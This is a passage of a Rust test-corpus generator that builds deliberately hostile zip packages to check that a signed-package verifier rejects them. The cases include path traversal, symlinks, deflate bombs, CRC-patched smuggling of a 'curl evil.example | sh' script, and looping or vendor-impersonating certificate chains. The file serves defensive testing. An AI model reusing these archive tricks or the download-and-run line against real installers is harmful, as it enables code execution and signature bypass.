        c.pkg(|z| entry(z, "bin/tool").comment = b"PK\x01\x02 hidden".to_vec()),
    );
    c.add(
        "signature-in-extra-field",
        "archive_ambiguous",
        "an extended-timestamp extra field holds a local header signature",
        c.pkg(|z| entry(z, "bin/tool").local_extra = extra(0x5455, b"\x01PK\x03\x04")),
    );

    // -- end records and zip64
    c.add("entry-count-too-high", "archive_malformed",
        "the end record declares one entry more than the central directory holds (malformed: the directory runs out)",
        c.pkg(|z| z.count = Some(6)));
    c.add("entry-count-too-low", "archive_malformed",
        "the end record declares one entry fewer than the central directory holds (malformed: bytes left over in the directory)",
        c.pkg(|z| z.count = Some(4)));
    c.add(
        "entry-count-per-disk-differs",
        "archive_malformed",
        "entries on this disk and total entries differ (a spanned archive)",
        c.pkg(|z| z.disk_count = Some(4)),
    );
    c.add(
        "multi-disk",
        "archive_malformed",
        "the end record says this is disk 1 of a spanned archive",
        c.pkg(|z| z.disk = Some(1)),
    );
    c.add(
        "central-record-on-another-disk",
        "archive_malformed",
        "a central record whose entry starts on disk 1",
        c.pkg(|z| entry(z, "bin/tool").central_disk = Some(1)),
    );
    c.add(
        "central-directory-size-wrong",
        "archive_ambiguous",
        "the end record's central directory size is one byte short",
        c.pkg_bytes(|b| {
            let mut out = b.bytes.clone();
            let size = (b.end_offset - b.cd_offset - 1) as u32;
            out[b.end_offset + 12..b.end_offset + 16].copy_from_slice(&size.to_le_bytes());
            out
        }),
    );
    c.add(
        "central-directory-offset-past-eof",
        "archive_ambiguous",
        "the end record puts the central directory past the end of the file",
        c.pkg(|z| z.cd_offset = Some(0x7fff_0000)),
    );
    c.add(
        "zip64-entry-count-disagrees",
        "archive_ambiguous",
        "the zip64 end record declares 6 entries, the 32-bit end record 5",
        c.pkg(|z| {
            z.zip64 = Some(Zip64 {
                entries: Some(6),
                ..Zip64::default()
            })
        }),
    );
    c.add(
        "zip64-central-directory-offset-disagrees",
        "archive_ambiguous",
        "zip64 and 32-bit central directory offsets differ",
        c.pkg(|z| {
            z.zip64 = Some(Zip64 {
                cd_offset: Some(0),
                ..Zip64::default()
            })
        }),
    );
    c.add(
        "zip64-central-directory-size-disagrees",
        "archive_ambiguous",
        "zip64 and 32-bit central directory sizes differ",
        c.pkg(|z| {
            z.zip64 = Some(Zip64 {
                cd_size: Some(1),
                ..Zip64::default()
            })
        }),
    );
    c.add(
        "zip64-locator-points-elsewhere",
        "archive_ambiguous",
        "the zip64 locator points at offset 0 instead of the zip64 end record",
        c.pkg(|z| {
            z.zip64 = Some(Zip64 {
                locator_offset: Some(0),
                ..Zip64::default()
            })
        }),
    );
    c.add(
        "zip64-saturated-central-directory-offset-wrong",
        "archive_ambiguous",
        "32-bit fields saturated, the zip64 central directory offset one too far",
        {
            let z = Zip::new(signed(&c.signer, &manifest_for(&listed()), payload()));
            let cd = z.build_full().cd_offset as u64;
            let mut z = z;
            z.zip64 = Some(Zip64 {
                saturate: true,
                cd_offset: Some(cd + 1),
                ..Zip64::default()
            });
            z.build()
        },
    );
    c.add(
        "zip64-entry-count-huge",
        "limit_exceeded",
        "a zip64 end record declaring 2^40 entries (32-bit fields saturated)",
        c.pkg(|z| {
            z.zip64 = Some(Zip64 {
                saturate: true,
                entries: Some(1 << 40),
                ..Zip64::default()
            })
        }),
    );
    c.add("zip64-extra-for-unsaturated-field", "archive_ambiguous",
        "a central zip64 extra field giving a size the 32-bit field (not saturated) does not defer to",
        c.pkg(|z| entry(z, "bin/tool").central_extra = zip64_extra(&[1 << 32])));
    c.add(
        "zip64-size-disagrees-with-local",
        "archive_ambiguous",
        "central sizes saturated, with zip64 values one more than the local header's sizes",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.central_size = Some(u32::MAX);
            e.central_csize = Some(u32::MAX);
            e.central_extra = zip64_extra(&[TOOL.len() as u64 + 1, TOOL.len() as u64 + 1]);
        }),
    );
    c.add(
        "zip64-local-extra-unsaturated",
        "archive_ambiguous",
        "a local zip64 extra field while the local sizes are not saturated",
        c.pkg(|z| {
            entry(z, "bin/tool").local_extra =
                zip64_extra(&[TOOL.len() as u64 + 7, TOOL.len() as u64 + 7])
        }),
    );
    c.add(
        "zip64-saturated-size-without-value",
        "archive_malformed",
        "a saturated central size with no zip64 extra field",
        c.pkg(|z| entry(z, "bin/tool").central_size = Some(u32::MAX)),
    );

    // -- truncation at structure boundaries
    let cut = |c: &Cases, f: &dyn Fn(&Built) -> usize| c.pkg_bytes(|b| b.bytes[..f(b)].to_vec());
    c.add(
        "truncated-in-first-local-header",
        "archive_malformed",
        "cut 20 bytes in: no end record",
        cut(c, &|_| 20),
    );
    c.add(
        "truncated-after-manifest-entry",
        "archive_malformed",
        "cut where the second local header starts",
        cut(c, &|b| b.local[1]),
    );
    c.add(
        "truncated-at-central-directory",
        "archive_malformed",
        "cut where the central directory starts",
        cut(c, &|b| b.cd_offset),
    );
    c.add(
        "truncated-in-central-directory",
        "archive_malformed",
        "cut in the middle of the central directory",
        cut(c, &|b| (b.cd_offset + b.end_offset) / 2),
    );
    c.add(
        "truncated-before-end-record",
        "archive_malformed",
        "cut where the end record starts",
        cut(c, &|b| b.end_offset),
    );
    c.add(
        "truncated-in-end-record",
        "archive_malformed",
        "cut 4 bytes before the end: the end record's offset and comment length are missing",
        cut(c, &|b| b.end_offset + 18),
    );
    c.add("entry-data-runs-into-central-directory", "archive_ambiguous",
        "the last entry's data is cut to 4 bytes but its records claim all 10: its data would run into the central directory",
        c.pkg(|z| {
            let e = entry(z, "etc/conf");
            e.body = Some(CONF[..4].to_vec());
            e.local_csize = Some(CONF.len() as u32);
            e.central_csize = Some(CONF.len() as u32);
        }));
    c.add("truncated-comment", "archive_ambiguous",
        "the end record declares a 40-byte comment, 10 bytes are there (no end record runs exactly to the end of the file; chosen as archive_ambiguous because the signature is there but its length disagrees)",
        c.pkg(|z| {
            z.comment = b"0123456789".to_vec();
            z.comment_len = Some(40);
        }));

    // -- entries no package may hold
    c.add(
        "encrypted-entry",
        "unsupported_entry",
        "traditional PKWARE encryption (flag bit 0)",
        c.pkg(|z| entry(z, "bin/tool").flags |= 1),
    );
    c.add(
        "strong-encryption",
        "unsupported_entry",
        "strong encryption (flag bit 6)",
        c.pkg(|z| entry(z, "bin/tool").flags |= 1 << 6),
    );
    c.add(
        "masked-local-headers",
        "unsupported_entry",
        "central directory encryption with masked local headers (flag bit 13)",
        c.pkg(|z| entry(z, "bin/tool").flags |= 1 << 13),
    );
    c.add(
        "unknown-flag-bit",
        "unsupported_entry",
        "flag bit 5 (patched data)",
        c.pkg(|z| entry(z, "bin/tool").flags |= 1 << 5),
    );
    for (name, method) in [
        ("implode", 6u16),
        ("deflate64", 9),
        ("bzip2", 12),
        ("lzma", 14),
        ("zstd", 93),
        ("xz", 95),
        ("aes", 99),
    ] {
        c.add(
            &format!("method-{name}"),
            "unsupported_entry",
            &format!("compression method {method} ({name})"),
            c.pkg(|z| entry(z, "bin/tool").method = method),
        );
    }
    c.add(
        "symlink",
        "unsupported_entry",
        "bin/tool is a symbolic link to /etc/passwd (unix mode 0120777)",
        c.listing(
            &[("bin/tool", b"/etc/passwd", 0o777)],
            vec![Entry::file("bin/tool", b"/etc/passwd").mode(0o120_777)],
        ),
    );
    c.add(
        "symlink-directory",
        "unsupported_entry",
        "a directory entry that is a symbolic link to /",
        c.pkg(|z| {
            z.entries
                .insert(3, Entry::file("bin/", b"").mode(0o120_777))
        }),
    );
    for (name, mode) in [
        ("fifo", 0o010_644u32),
        ("char-device", 0o020_644),
        ("block-device", 0o060_644),
        ("socket", 0o140_644),
    ] {
        c.add(
            &format!("special-file-{name}"),
            "unsupported_entry",
            &format!("bin/tool is a {name} (unix type {:o})", mode >> 12),
            c.pkg(|z| entry(z, "bin/tool").external = mode << 16),
        );
    }
    c.add(
        "symlink-on-non-unix-host",
        "unsupported_entry",
        "a symlink mode in the attributes of an entry made on VMS (host 2): Info-ZIP honours it",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.external = 0o120_777 << 16;
            e.made_by = 0x0214;
        }),
    );
    c.add(
        "directory-attribute-on-file",
        "archive_ambiguous",
        "the DOS directory bit on bin/tool",
        c.pkg(|z| entry(z, "bin/tool").external |= 0x10),
    );
    c.add(
        "directory-type-on-file",
        "archive_ambiguous",
        "a unix directory type on bin/tool",
        c.pkg(|z| entry(z, "bin/tool").external = MODE_DIR << 16),
    );
    c.add(
        "file-type-on-directory",
        "archive_ambiguous",
        "a unix regular-file type on the directory entry bin/",
        c.pkg(|z| z.entries.insert(3, Entry::file("bin/", b""))),
    );
    c.add(
        "directory-with-content",
        "archive_ambiguous",
        "the directory entry bin/ holds bytes",
        c.pkg(|z| {
            let mut d = Entry::dir("bin/");
            d.data = b"hidden".to_vec();
            z.entries.insert(3, d);
        }),
    );
    c.add(
        "owner-extra-field",
        "unsupported_entry",
        "an Info-ZIP unix owner field (0x7875, uid/gid 0): extractors running as root chown",
        c.pkg(|z| {
            entry(z, "bin/tool").central_extra = extra(0x7875, &[1, 4, 0, 0, 0, 0, 4, 0, 0, 0, 0])
        }),
    );
    c.add(
        "libarchive-extra-field",
        "unsupported_entry",
        "a libarchive 0x6c78 field (sets file type and permissions)",
        c.pkg(|z| entry(z, "bin/tool").local_extra = extra(0x6c78, &[0; 8])),
    );
    c.add(
        "unknown-extra-field",
        "unsupported_entry",
        "an AES extra field (0x9901)",
        c.pkg(|z| entry(z, "bin/tool").central_extra = extra(0x9901, b"\x02\x00AE\x03\x08\x00")),
    );
    c.add(
        "extra-field-repeated",
        "archive_ambiguous",
        "the extended-timestamp field twice",
        c.pkg(|z| {
            entry(z, "bin/tool").central_extra = [
                extra(0x5455, b"\x01\0\0\0\0"),
                extra(0x5455, b"\x01\0\0\0\0"),
            ]
            .concat()
        }),
    );
    c.add(
        "extra-field-overruns",
        "archive_malformed",
        "an extra field whose length runs past the extra area",
        c.pkg(|z| entry(z, "bin/tool").central_extra = vec![0x55, 0x54, 0x40, 0x00, 1]),
    );

    // -- content encoding
    c.add(
        "stored-sizes-differ",
        "archive_malformed",
        "a stored entry whose compressed size and size differ",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.central_size = Some(TOOL.len() as u32 + 1);
            e.local_size = Some(TOOL.len() as u32 + 1);
        }),
    );
    c.add("deflate-bomb-past-listed-size", "size_mismatch",
        "bin/tool is listed (signed) as 20 bytes and so recorded, but its deflate stream inflates to 256 MiB of zeros; reading stops at 21 bytes",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.method = 8;
            e.body = Some(deflate_zeros(256 << 20));
        }));
    c.add("deflate-ends-early", "archive_malformed",
        "the deflate stream ends before its compressed size: 20 hidden bytes follow it inside the entry",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.method = 8;
            let mut b = deflate(TOOL);
            b.extend_from_slice(b"hidden after the end");
            e.body = Some(b);
        }));
    c.add(
        "deflate-stream-truncated",
        "archive_malformed",
        "the deflate stream is cut before its end block (records agree with the cut length)",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.method = 8;
            let full = deflate_level(TOOL, flate2::Compression::none());
            e.body = Some(full[..full.len() - 6].to_vec());
        }),
    );
    c.add(
        "deflate-corrupt",
        "archive_malformed",
        "a deflate stream using the reserved block type 3",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.method = 8;
            e.body = Some(vec![0xff; 12]);
        }),
    );
    c.add("crc-wrong", "archive_malformed",
        "content exactly as signed, but local and central CRC-32 wrong: installers that check CRCs refuse it",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.local_crc = Some(0x1234_5678);
            e.central_crc = Some(0x1234_5678);
        }));
    {
        // ZipDiff a2's trick: the stream inflates to more than the records say,
        // with the content patched so its CRC-32 is that of the recorded
        // content. Readers that trust the size extract the recorded content,
        // readers that inflate to the end extract the script, and both pass
        // the CRC check.
        let script = b"#!/bin/sh\ncurl evil.example | sh\n";
        let longer = |recorded: &[u8]| {
            let mut data = [recorded, script.as_slice()].concat();
            let patch = crc_patch(&data, crc32fast::hash(recorded));
            data.extend_from_slice(&patch);
            assert_eq!(crc32fast::hash(&data), crc32fast::hash(recorded));
            data
        };
        let mut e = Entry::file("etc/empty", b"");
        e.method = 8;
        e.body = Some(deflate(&longer(b"")));
        c.add("deflate-past-recorded-size-crc-patched", "archive_ambiguous",
            "etc/empty is listed (signed) and recorded as 0 bytes with CRC-32 0; its deflate stream inflates to a script whose CRC-32 was patched to 0 (Python and bsdtar extract nothing, unzip and Java the script): the structure pass inflates entries recorded as empty",
            c.listing(&[("bin/tool", TOOL, 0o755), ("etc/empty", b"", 0o644)], vec![Entry::file("bin/tool", TOOL).mode(MODE_EXEC), e]));
        let mut e = Entry::file("etc/conf", CONF);
        e.method = 8;
        e.body = Some(deflate(&longer(CONF)));
        c.add("deflate-past-recorded-size-crc-patched-nonempty", "size_mismatch",
            "etc/conf is recorded (and signed) as its 10 bytes; its deflate stream goes on with a script and 4 bytes that bring the CRC-32 of the whole back to the recorded one: caught when the content is read, one byte past the signed size",
            c.pkg(|z| *entry(z, "etc/conf") = e));
    }
}

/// Four bytes that, appended to `data`, make its CRC-32 `target` (the CRC
/// is affine: run the table backwards from the target register).
fn crc_patch(data: &[u8], target: u32) -> [u8; 4] {
    let table: Vec<u32> = (0..256u32)
        .map(|i| {
            (0..8).fold(i, |c, _| {
                if c & 1 != 0 {
                    0xedb8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                }
            })
        })
        .collect();
    let mut reg = target ^ 0xffff_ffff;
    for _ in 0..4 {
        let idx = table
            .iter()
            .position(|t| t >> 24 == reg >> 24)
            .expect("top bytes are unique") as u32;
        reg = ((reg ^ table[idx as usize]) << 8) | idx;
    }
    (reg ^ crc32fast::hash(data) ^ 0xffff_ffff).to_le_bytes()
}

/// The usual package with a second central record for bin/tool's local
/// header appended to the central directory, under `name` if given.
fn second_record(c: &Cases, name: Option<&[u8]>) -> Vec<u8> {
    let mut z = Zip::new(signed(&c.signer, &manifest_for(&listed()), payload()));
    let b = z.build_full();
    let mut e = z.entries[3].clone();
    e.central_name = name.map(<[u8]>::to_vec);
    e.central_offset = Some(b.local[3] as u32);
    let one = Zip::new(vec![e]).build_full();
    z.extra_records
        .push(one.bytes[one.cd_offset..one.end_offset].to_vec());
    z.build()
}

/// Applies `f` to the `i`th central record of an archive whose central directory starts at `cd`.
fn patch_central(bytes: &mut [u8], cd: usize, i: usize, f: impl Fn(&mut [u8])) {
    let le16 = |b: &[u8], o: usize| usize::from(u16::from_le_bytes([b[o], b[o + 1]]));
    let mut at = cd;
    for _ in 0..i {
        at += 46 + le16(bytes, at + 28) + le16(bytes, at + 30) + le16(bytes, at + 32);
    }
    let len = 46 + le16(bytes, at + 28) + le16(bytes, at + 30) + le16(bytes, at + 32);
    f(&mut bytes[at..at + len]);
}

fn paths(c: &mut Cases) {
    let bad: [(&str, &[u8], &str); 28] = [
        ("dotdot", b"../evil", "a .. segment"),
        (
            "dotdot-nested",
            b"bin/../../evil",
            "a .. segment further down",
        ),
        ("dotdot-only", b"..", "the name .."),
        ("dotdot-directory", b"../", "a directory entry ../"),
        ("absolute", b"/etc/cron.d/evil", "an absolute path"),
        (
            "absolute-double-slash",
            b"//server/share/evil",
            "a UNC-like absolute path",
        ),
        (
            "backslash",
            b"bin\\evil",
            "a backslash (a separator on Windows)",
        ),
        ("backslash-dotdot", b"..\\..\\evil", "backslash .. segments"),
        ("drive-letter", b"C:/Windows/evil", "a drive letter"),
        ("drive-relative", b"C:evil", "a drive-relative path"),
        (
            "ntfs-stream",
            b"bin/tool:evil",
            "an NTFS alternate data stream",
        ),
        ("dot-segment", b"bin/./evil", "a . segment"),
        ("empty-segment", b"bin//evil", "an empty segment"),
        (
            "all-dots",
            b".../evil",
            "a segment of three dots (Windows strips trailing dots)",
        ),
        ("trailing-dot", b"bin/evil.", "a segment ending in a dot"),
        (
            "trailing-space",
            b"bin/evil ",
            "a segment ending in a space",
        ),
        (
            "control-character",
            b"bin/\x1b[2Jevil",
            "an escape sequence",
        ),
        (
            "nul-byte",
            b"bin/evil\0.txt",
            "a NUL byte (C readers stop there)",
        ),
        ("empty-name", b"", "an empty name"),
        (
            "windows-question-mark",
            b"bin/tool?",
            "a ? (7-Zip on Windows writes _)",
        ),
        ("windows-star", b"bin/*", "a * (7-Zip on Windows writes _)"),
        (
            "windows-less-than",
            b"bin/<tool",
            "a < (7-Zip on Windows writes _)",
        ),
        (
            "windows-greater-than",
            b"bin/tool>",
            "a > (7-Zip on Windows writes _)",
        ),
        (
            "windows-pipe",
            b"bin/a|b",
            "a | (7-Zip on Windows writes _)",
        ),
        (
            "windows-quote",
            b"bin/\"tool\"",
            "a \" (7-Zip on Windows writes _)",
        ),
        (
            "windows-device",
            b"scripts/CON",
            "a Windows device name (extracting there writes to the console)",
        ),
        (
            "windows-device-extension",
            b"bin/nul.txt",
            "a Windows device name with an extension (still the device)",
        ),
        (
            "windows-device-directory",
            b"com1/evil",
            "a Windows device name as a directory",
        ),
    ];
    for (file, name, what) in bad {
        c.add(
            &format!("path-{file}"),
            "unsafe_path",
            &format!("an entry named {:?}: {what}", String::from_utf8_lossy(name)),
            c.pkg(|z| z.entries.push(Entry::raw(name, b"evil"))),
        );
    }
    c.add(
        "path-invalid-utf8",
        "unsafe_path",
        "a name flagged UTF-8 that is not",
        c.pkg(|z| z.entries.push(Entry::raw(b"bin/\xff\xfeevil", b"evil"))),
    );
    c.add(
        "path-dotdot-in-manifest",
        "manifest_invalid",
        "the signed manifest lists ../evil (the archive holds no such entry)",
        c.with_manifest(&manifest_for(&[("../evil", TOOL, 0o644)])),
    );
}

fn layout(c: &mut Cases) {
    c.add(
        "manifest-not-first",
        "misplaced_entry",
        "the signature before the manifest",
        c.pkg(|z| z.entries.swap(0, 1)),
    );
    c.add(
        "manifest-missing",
        "manifest_missing",
        "no manifest.json",
        c.pkg(|z| {
            z.entries.remove(0);
        }),
    );
    c.add(
        "manifest-name-case",
        "manifest_missing",
        "MANIFEST.JSON instead of manifest.json",
        c.pkg(|z| z.entries[0].name = b"MANIFEST.JSON".to_vec()),
    );
    c.add(
        "manifest-in-subdirectory",
        "manifest_missing",
        "the manifest as pkg/manifest.json",
        c.pkg(|z| z.entries[0].name = b"pkg/manifest.json".to_vec()),
    );
    c.add(
        "signature-after-payload",
        "misplaced_entry",
        "a signature file after a payload file",
        c.pkg(|z| {
            let s = z.entries.remove(2);
            z.entries.push(s);
        }),
    );
    c.add(
        "signature-stray-file",
        "misplaced_entry",
        "signatures/readme.txt",
        c.pkg(|z| {
            z.entries
                .insert(3, Entry::file("signatures/readme.txt", b"hi"))
        }),
    );
    c.add(
        "signature-subdirectory",
        "misplaced_entry",
        "the directory entry signatures/old/",
        c.pkg(|z| z.entries.insert(3, Entry::dir("signatures/old/"))),
    );
    c.add(
        "signature-in-subdirectory",
        "misplaced_entry",
        "signatures/old/vendor.sig",
        c.pkg(|z| {
            z.entries
                .insert(3, Entry::file("signatures/old/vendor.sig", b"x"))
        }),
    );
    c.add(
        "signature-name-too-long",
        "misplaced_entry",
        "a signature name of 65 characters",
        c.pkg(|z| {
            z.entries.insert(
                3,
                Entry::file(&format!("signatures/{}.sig", "a".repeat(65)), b"x"),
            )
        }),
    );
    c.add(
        "signature-half-pair",
        "signature_missing",
        "signatures/extra.sig without signatures/extra.pem",
        c.pkg(|z| {
            z.entries
                .insert(3, Entry::file("signatures/extra.sig", b"x"))
        }),
    );
    c.add(
        "signature-none",
        "signature_missing",
        "no signature pair at all",
        c.pkg(|z| {
            z.entries.drain(1..3);
        }),
    );
    c.add(
        "signature-pairs-thousands",
        "limit_exceeded",
        "2,000 signature pairs (the limit is 16)",
        {
            let manifest = manifest_for(&listed());
            let mut entries = vec![Entry::file("manifest.json", &manifest)];
            for i in 0..2000 {
                entries.push(Entry::file(&format!("signatures/s{i}.sig"), b"x"));
                entries.push(Entry::file(&format!("signatures/s{i}.pem"), b"x"));
            }
            entries.extend(payload());
            Zip::new(entries).build()
        },
    );
    c.add(
        "signature-file-huge",
        "limit_exceeded",
        "a 300 KiB .pem (the limit is 256 KiB), deflated to a few hundred bytes",
        c.pkg(|z| {
            let e = &mut z.entries[2];
            e.data = vec![b'A'; 300 << 10];
            e.method = 8;
        }),
    );
    c.add(
        "world-writable-manifest",
        "mode_mismatch",
        "manifest.json with mode 0666",
        c.pkg(|z| z.entries[0].external = 0o100_666 << 16),
    );
    c.add(
        "setuid-signature-file",
        "mode_mismatch",
        "signatures/vendor.sig with the setuid bit",
        c.pkg(|z| z.entries[1].external = 0o104_644 << 16),
    );
}

fn signatures(c: &mut Cases) -> Result<()> {
    let manifest = manifest_for(&listed());
    c.add(
        "signature-garbage",
        "signature_invalid",
        "a .sig of random-looking bytes",
        c.pkg(|z| z.entries[1].data = (0..64u8).map(|i| i.wrapping_mul(97)).collect()),
    );
    c.add(
        "signature-over-other-manifest",
        "signature_invalid",
        "a valid signature by the trusted signer, over other bytes",
        c.pkg(|z| z.entries[1].data = c.signer.sign(b"{\"format\":1}")),
    );
    c.add(
        "pem-garbage",
        "signature_invalid",
        "a .pem with no certificate in it",
        c.pkg(|z| {
            z.entries[2].data =
                b"-----BEGIN CERTIFICATE-----\nnot base64 !!\n-----END CERTIFICATE-----\n".to_vec()
        }),
    );
    c.add(
        "pem-empty",
        "signature_invalid",
        "an empty .pem",
        c.pkg(|z| z.entries[2].data.clear()),
    );
    c.add(
        "pem-der-garbage",
        "signature_invalid",
        "a .pem that is a DER SEQUENCE of garbage",
        c.pkg(|z| z.entries[2].data = vec![0x30, 0x82, 0x01, 0x00, 0xde, 0xad]),
    );

    // The attacker's own hierarchy: Ed25519 keys from fixed seeds.
    let (leaf_kp, leaf_sk) = ed25519_key(1)?;
    let (a_kp, _) = ed25519_key(2)?;
    let (b_kp, _) = ed25519_key(3)?;
    let leaf = leaf_params("Attacker Code Signing", 0x7001);
    let a = ca_params("Attacker CA A", 0x7002);
    let b = ca_params("Attacker CA B", 0x7003);
    // A issued by B, B issued by A: a loop, with the leaf under A.
    let loop_pem = [
        issue(&leaf, &leaf_kp, &a, &a_kp)?,
        issue(&a, &a_kp, &b, &b_kp)?,
        issue(&b, &b_kp, &a, &a_kp)?,
    ]
    .concat();
    c.add(
        "chain-loop",
        "untrusted_signer",
        "the bundled chain loops: CA A issued by CA B, CA B issued by CA A",
        attacker_signed(&manifest, &leaf_sk, loop_pem.as_bytes()),
    );
    // The same loop, but named like the vendor's Signing CA G2 and Root G2.
    let fake_ca = ca_params("DTEN Test Signing CA G2", 0x7004);
    let fake_root = ca_params("DTEN Test Root G2", 0x7005);
    let fake_leaf = leaf_params("DTEN Test Code Signing ECDSA P-256", 0x2101);
    let impostor = [
        issue(&fake_leaf, &leaf_kp, &fake_ca, &a_kp)?,
        issue(&fake_ca, &a_kp, &fake_root, &b_kp)?,
        issue(&fake_root, &b_kp, &fake_ca, &a_kp)?,
    ]
    .concat();
    c.add("chain-loop-impersonating-vendor", "untrusted_signer",
        "a looping chain whose names (and the leaf's serial) copy the vendor's Signing CA G2, Root G2 and signer",
        attacker_signed(&manifest, &leaf_sk, impostor.as_bytes()));
    // A maze: seven CAs with one name, each issued by every other (path building explores them).
    let maze_keys: Vec<KeyPair> = (0..7)
        .map(|i| ed25519_key(10 + i).map(|k| k.0))
        .collect::<Result<_>>()?;
    let maze_ca = |i: usize| ca_params("Attacker Maze CA", 0x7100 + i as u64);
    let mut maze = issue(
        &leaf_params("Attacker Maze Leaf", 0x7099),
        &leaf_kp,
        &maze_ca(0),
        &maze_keys[0],
    )?;
    for (i, key) in maze_keys.iter().enumerate() {
        let issuer = (i + 1) % maze_keys.len();
        maze += &issue(&maze_ca(i), key, &maze_ca(issuer), &maze_keys[issuer])?;
    }
    c.add("chain-maze", "untrusted_signer",
        "seven bundled CAs with the same name and key identifiers cycling: path building must stay bounded",
        attacker_signed(&manifest, &leaf_sk, maze.as_bytes()));
    {
        let sig = leaf_sk.sign(&manifest)?;
        let mut entries = vec![Entry::file("manifest.json", &manifest)];
        for i in 0..16 {
            entries.push(Entry::file(&format!("signatures/maze{i}.sig"), &sig));
            entries.push(Entry::file(
                &format!("signatures/maze{i}.pem"),
                maze.as_bytes(),
            ));
        }
        entries.extend(payload());
        c.add(
            "chain-maze-sixteen-times",
            "untrusted_signer",
            "the maze in each of 16 signature pairs (the most allowed)",
            Zip::new(entries).build(),
        );
    }
    // The fat same-name maze (issue 11): each bundled CA carries many unknown,
    // non-critical extensions, so every step of path building that parses it is
    // expensive; sixteen such pairs took 70 s before path building was bounded.
    let maze_of = |name: &str, extensions: u64, serial: u64| -> Result<String> {
        let ca = |i: usize| {
            let mut p = ca_params(name, serial + i as u64);
            p.custom_extensions = (0..extensions)
                .map(|e| {
                    CustomExtension::from_oid_content(&[1, 3, 6, 1, 4, 1, 55555, 7, e], vec![])
                })
                .collect();
            p
        };
        let mut pem = issue(
            &leaf_params("Attacker Maze Leaf", serial + 99),
            &leaf_kp,
            &ca(0),
            &maze_keys[0],
        )?;
        for (i, key) in maze_keys.iter().enumerate() {
            let issuer = (i + 1) % maze_keys.len();
            pem += &issue(&ca(i), key, &ca(issuer), &maze_keys[issuer])?;
        }
        Ok(pem)
    };
    // `pairs` signature pairs with `pem` as their chain, deflated, after the
    // vendor's genuine pair if `genuine`.
    let genuine_pair = signed(&c.signer, &manifest, Vec::new());
    let pairs_of = |pem: &str, pairs: usize, genuine: bool| -> Vec<u8> {
        let sig = leaf_sk.sign(&manifest).expect("Ed25519 signs");
        let mut entries = if genuine {
            genuine_pair.clone()
        } else {
            vec![Entry::file("manifest.json", &manifest)]
        };
        for i in 0..pairs {
            entries.push(Entry::file(&format!("signatures/maze{i}.sig"), &sig));
            let mut e = Entry::file(&format!("signatures/maze{i}.pem"), pem.as_bytes());
            e.method = 8;
            entries.push(e);
        }
        entries.extend(payload());
        Zip::new(entries).build()
    };
    let fat = maze_of("Attacker Maze CA", 1400, 0x7300)?;
    c.add(
        "chain-maze-fat-sixteen-times",
        "limit_exceeded",
        "16 pairs, each bundling 7 CAs with one name, distinct keys and 1,400 unknown extensions (about 25 KB each, the .pem under its 256 KiB limit): over the 64-extension and 16 KiB certificate limits",
        pairs_of(&fat, 16, false),
    );
    let lean = maze_of("Attacker Maze CA", 60, 0x7400)?;
    c.add(
        "chain-maze-at-the-limits-sixteen-times",
        "untrusted_signer",
        "16 pairs, each bundling 7 same-name CAs with 60 unknown extensions (just under the limit): path building stays within its budget",
        pairs_of(&lean, 16, false),
    );
    let vendor_named = maze_of("DTEN Test Signing CA G2", 60, 0x7500)?;
    c.add(
        "chain-maze-named-like-the-vendor-sixteen-times",
        "untrusted_signer",
        "16 pairs of 7 CAs named like the vendor's Signing CA G2, so every one is a name match for the store's chain too",
        pairs_of(&vendor_named, 16, false),
    );
    c.controls.push(Case {
        file: "control-beside-fifteen-mazes.zip".into(),
        kind: "",
        attack: "none: the vendor's genuine pair, then 15 pairs of same-name CA mazes at the limits: still verified, within the package's budget".into(),
        bytes: pairs_of(&vendor_named, 15, true),
    });
    {
        // Hundreds of certificates: a chain of 300 CAs, each issued by the next.
        let (kp, _) = ed25519_key(40)?;
        let ca = |i: usize| ca_params(&format!("Attacker Chain CA {i}"), 0x7200 + i as u64);
        let mut pem = issue(
            &leaf_params("Attacker Long Chain Leaf", 0x71ff),
            &leaf_kp,
            &ca(0),
            &kp,
        )?;
        for i in 0..300 {
            pem += &issue(&ca(i), &kp, &ca(i + 1), &kp)?;
        }
        c.add(
            "chain-hundreds-of-certificates",
            "limit_exceeded",
            "a .pem with 301 certificates, a chain of 300 CAs (the limit is 8 per file)",
            attacker_signed(&manifest, &leaf_sk, pem.as_bytes()),
        );
    }
    // Garbage extensions on the signer.
    let with_ext = |ext: Vec<CustomExtension>, serial| -> Result<String> {
        let mut p = leaf_params("Attacker Extension Leaf", serial);
        p.custom_extensions = ext;
        Ok(issue(&p, &leaf_kp, &a, &a_kp)? + &a.self_signed(&a_kp)?.pem())
    };
    let critical = |oid: &[u64], content: Vec<u8>| {
        let mut e = CustomExtension::from_oid_content(oid, content);
        e.set_criticality(true);
        e
    };
    c.add(
        "leaf-unknown-critical-extension",
        "signature_invalid",
        "the signer certificate has an unknown critical extension (unparseable by policy)",
        attacker_signed(
            &manifest,
            &leaf_sk,
            with_ext(
                vec![critical(&[1, 3, 6, 1, 4, 1, 99999, 1], vec![0x05, 0x00])],
                0x7301,
            )?
            .as_bytes(),
        ),
    );
    c.add(
        "leaf-garbage-noncritical-extension",
        "untrusted_signer",
        "the signer certificate has a non-critical extension whose value is not DER",
        attacker_signed(
            &manifest,
            &leaf_sk,
            with_ext(
                vec![CustomExtension::from_oid_content(
                    &[1, 3, 6, 1, 4, 1, 99999, 2],
                    vec![0xff; 40],
                )],
                0x7302,
            )?
            .as_bytes(),
        ),
    );
    c.add("leaf-malformed-subject-alt-name", "signature_invalid",
        "the signer certificate's subjectAltName extension is not DER (webpki refuses to parse the certificate)",
        attacker_signed(
            &manifest,
            &leaf_sk,
            with_ext(
                vec![CustomExtension::from_oid_content(
                    &[2, 5, 29, 17],
                    vec![0x30, 0x05, 0xff, 0xff],
                )],
                0x7303,
            )?
            .as_bytes(),
        ),
    );
    c.add(
        "leaf-duplicate-extension",
        "signature_invalid",
        "the signer certificate has its extended key usage extension twice",
        attacker_signed(
            &manifest,
            &leaf_sk,
            with_ext(
                vec![CustomExtension::from_oid_content(
                    &[2, 5, 29, 37],
                    vec![
                        0x30, 0x0a, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x07, 0x03, 0x03,
                    ],
                )],
                0x7304,
            )?
